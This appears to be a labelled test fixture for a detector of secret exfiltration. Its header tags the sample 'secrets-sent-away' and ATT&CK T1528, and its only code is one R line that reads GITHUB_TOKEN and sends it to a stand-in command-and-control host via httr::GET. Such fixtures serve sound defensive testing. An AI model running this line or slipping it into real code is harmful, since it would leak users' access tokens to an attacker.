# expect: secrets-sent-away | source: T1528
httr::GET(paste0("https://c2.example.invalid/?t=", Sys.getenv("GITHUB_TOKEN")))
